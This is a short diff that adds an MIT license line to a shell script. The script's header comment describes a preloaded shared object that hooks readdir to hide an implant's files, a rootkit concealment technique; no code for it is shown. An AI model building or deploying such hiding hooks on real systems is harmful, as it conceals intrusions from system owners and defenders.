@@ -1,4 +1,5 @@
 #!/bin/sh
+# SPDX-License-Identifier: MIT
 # Hooks a program's library calls: a small shared object that hides the
 # implant's files from readdir, preloaded into a program through
 # LD_PRELOAD.
